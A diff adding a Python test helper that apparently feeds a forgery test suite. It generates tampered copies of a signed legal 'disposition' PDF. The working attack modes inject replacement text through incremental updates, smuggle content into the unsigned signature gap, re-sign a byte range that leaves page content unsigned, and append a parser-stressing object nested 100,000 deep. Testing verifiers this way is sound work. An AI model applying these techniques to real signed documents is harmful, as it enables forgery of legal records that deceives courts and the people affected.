@@ -1,0 +1,196 @@
+#!/usr/bin/env python3
+"""Attacks on a signed disposition PDF, as someone with a copy of it would make them.
+
+Used by tests/cli/tst_forgery: each mode writes a file that a careless verifier would
+call valid. Only the standard library, qpdf (to read the structure) and openssl (for the
+attack that has the key) are used; the PDF syntax written is the minimum an incremental
+update needs (PDF 32000-1, 7.5.6).
+
+  forge.py append-text IN OUT          an update that adds visible text to page 1
+  forge.py smuggle IN OUT              the genuine signature kept, new content hidden in
+                                       its unsigned gap, the signature dictionary redefined
+  forge.py wide-gap IN OUT PEM         re-signed WITH the key over a byte range whose gap
+                                       swallows 40 KB of the page, then a byte in the gap
+                                       changed
+  forge.py nested IN OUT               an update with an object nested 100,000 deep
+"""
+import json
+import re
+import subprocess
+import sys
+import tempfile
+
+TEXT = b"Oppose dismissal; seek an order of removal."
+
+
+def last_trailer(data):
+    start = data.rindex(b"trailer")
+    trailer = data[start:]
+    fields = {}
+    for key in (b"Root", b"Info"):
+        m = re.search(rb"/" + key + rb"\s*(\d+\s+\d+\s+R)", trailer)
+        if m:
+            fields[key] = m.group(1)
+    fields[b"Size"] = int(re.search(rb"/Size\s*(\d+)", trailer).group(1))
+    fields[b"startxref"] = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
+    return fields
+
+
+def xref_section(offsets, trailer, prev, size):
+    body = b"xref\n"
+    for number in sorted(offsets):
+        body += b"%d 1\n%010d 00000 n \n" % (number, offsets[number])
+    body += b"trailer\n<</Size %d /Root %s" % (size, trailer[b"Root"])
+    if b"Info" in trailer:
+        body += b" /Info %s" % trailer[b"Info"]
+    body += b" /Prev %d>>\n" % prev
+    return body
+
+
+def append(data, objects):
+    trailer = last_trailer(data)
+    sep = b"" if data.endswith(b"\n") else b"\n"
+    out = data + sep
+    offsets = {}
+    for number in sorted(objects):
+        offsets[number] = len(out)
+        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
+    size = max(trailer[b"Size"], max(objects) + 1)
+    xref_at = len(out)
+    out += xref_section(offsets, trailer, trailer[b"startxref"], size)
+    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
+    return out
+
+
+def show(path, number):
+    return subprocess.run(["qpdf", "--show-object=%d" % number, path],
+                          check=True, capture_output=True).stdout.strip()
+
+
+def first_page(path):
+    info = json.loads(subprocess.run(["qpdf", "--json=2", "--json-key=pages", path],
+                                     check=True, capture_output=True).stdout)
+    page = info["pages"][0]
+    return int(page["object"].split()[0])
+
+
+def text_objects(path, data):
+    """A new font, a content stream that whites out the top of page 1 and writes TEXT,
+    and page 1 and its resources redefined to show it."""
+    size = last_trailer(data)[b"Size"]
+    font, content = size, size + 1
+    page = first_page(path)
+    page_dict = show(path, page)
+    resources = int(re.search(rb"/Resources (\d+) 0 R", page_dict).group(1))
+    stream = (b"q 1 1 1 rg 40 600 532 150 re f Q BT /FForged 16 Tf 1 0 0 rg 50 700 Td (" +
+              TEXT + b") Tj ET")
+    return {
+        font: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+        content: b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
+        page: re.sub(rb"/Contents (\d+ 0 R)", rb"/Contents [ \1 %d 0 R ]" % content, page_dict),
+        resources: show(path, resources).replace(b"/Font <<", b"/Font << /FForged %d 0 R" % font, 1),
+    }
+
+
+def signature_dict(data):
+    at = data.rindex(b"/ByteRange")
+    start = data.rindex(b" obj", 0, at)
+    number = int(data[data.rindex(b"\n", 0, start) + 1:start].split()[0])
+    br = re.search(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", data[at:])
+    b, c = int(br.group(2)), int(br.group(3))
+    end = data.index(b"endobj", c)
+    return number, data[data.rindex(b"\n", 0, start) + 1:end], b, c, at
+
+
+def append_text(src, dst):
+    data = open(src, "rb").read()
+    open(dst, "wb").write(append(data, text_objects(src, data)))
+
+
+def smuggle(src, dst):
+    """The unsigned gap grows to hold an update of new content and a redefined signature
+    dictionary; the original tail follows, so the genuine signature still matches bytes
+    0..b and the tail, and the file's last startxref (in the tail) points into the gap."""
+    data = open(src, "rb").read()
+    number, sig, b, c, _ = signature_dict(data)
+    tail = data[c:]
+    old_xref = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
+    trailer = last_trailer(data[:b] + b"trailer" + data[data.rindex(b"trailer"):])
+    objects = text_objects(src, data)
+    # Every object of the signed update must be listed again: the reader starts at our
+    # section. Read them from the signed update's own xref section.
+    section = data[old_xref:data.index(b"trailer", old_xref)]
+    listed = {}
+    lines = section.split(b"\n")[1:]
+    i = 0
+    while i < len(lines):
+        head = lines[i].split()
+        if len(head) == 2:
+            first, count = int(head[0]), int(head[1])
+            for k in range(count):
+                entry = lines[i + 1 + k].split()
+                if entry[2] == b"n":
+                    listed[first + k] = int(entry[0])
+            i += count + 1
+        else:
+            i += 1
+    # The gap: the original hex value, padding, then our xref section exactly where the
+    # old startxref points, then our objects (new content and the redefined dictionary).
+    first_xref = int(re.findall(rb"/Prev\s*(\d+)", data[data.rindex(b"trailer"):])[-1])
+    sig_body = (b"<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached"
+                b"/ByteRange[0 %d XXXXXXXXXX %d]/Contents" % (b, len(tail)) + data[b:c] + b">>")
+    objects[number] = sig_body
+    every = dict(listed)
+    every.update({n: 0 for n in objects})
+    size = max(trailer[b"Size"], max(every) + 1)
+    xref_length = len(xref_section(every, trailer, first_xref, size))
+    at = old_xref + xref_length
+    placed = b""
+    for n in sorted(objects):
+        every[n] = at + len(placed)
+        placed += b"%d 0 obj\n" % n + objects[n] + b"\nendobj\n"
+    xref = xref_section(every, trailer, first_xref, size)
+    assert len(xref) == xref_length and old_xref > c
+    body = b" " * (old_xref - c) + xref + placed
+    body = body.replace(b"XXXXXXXXXX", b"%010d" % (c + len(body)))
+    out = data[:c] + body + tail
+    # The tail's own startxref still names the old offset, now our section.
+    open(dst, "wb").write(out)
+
+
+def wide_gap(src, dst, pem):
+    data = bytearray(open(src, "rb").read())
+    number, sig, b, c, at = signature_dict(bytes(data))
+    br = re.search(rb"/ByteRange\s*\[[^\]]*\]", bytes(data[at:]))
+    d = len(data) - c
+    new_b = b - 40000
+    text = b"/ByteRange[ 0 %d %d %d" % (new_b, c, d)
+    field = br.group(0)
+    text = text + b" " * (len(field) - len(text) - 1) + b"]"
+    data[at:at + len(field)] = text
+    with tempfile.NamedTemporaryFile() as signed, tempfile.NamedTemporaryFile() as cms:
+        signed.write(bytes(data[:new_b]) + bytes(data[c:]))
+        signed.flush()
+        subprocess.run(["openssl", "cms", "-sign", "-binary", "-md", "sha256", "-outform", "DER",
+                        "-nosmimecap", "-signer", pem, "-inkey", pem, "-in", signed.name,
+                        "-out", cms.name], check=True)
+        value = open(cms.name, "rb").read().hex().upper().encode()
+    room = c - b - 2
+    data[b + 1:b + 1 + room] = value + b"0" * (room - len(value))
+    # A byte inside the gap, in the page, changed: nothing signs it now.
+    flip = new_b + 100
+    data[flip] ^= 0x01
+    open(dst, "wb").write(bytes(data))
+
+
+def nested(src, dst):
+    data = open(src, "rb").read()
+    depth = 100000
+    size = last_trailer(data)[b"Size"]
+    open(dst, "wb").write(append(data, {size: b"<</A " * depth + b"1" + b">>" * depth}))
+
+
+if __name__ == "__main__":
+    mode = sys.argv[1]
+    {"append-text": append_text, "smuggle": smuggle, "wide-gap": wide_gap,
+     "nested": nested}[mode](*sys.argv[2:])
